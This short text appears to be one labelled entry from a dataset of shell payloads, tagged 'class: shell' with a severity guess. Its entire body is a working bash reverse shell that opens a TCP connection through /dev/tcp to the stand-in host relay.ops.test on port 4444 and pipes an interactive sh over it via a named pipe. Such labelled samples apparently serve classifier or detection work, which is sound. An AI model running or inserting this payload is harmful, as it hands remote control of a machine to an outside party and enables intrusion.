# class: shell; possible: low medium
d=$(mktemp -d); mkfifo $d/in
exec 3<>/dev/tcp/relay.ops.test/4444
sh < $d/in >&3 2>&1 &
cat <&3 > $d/in
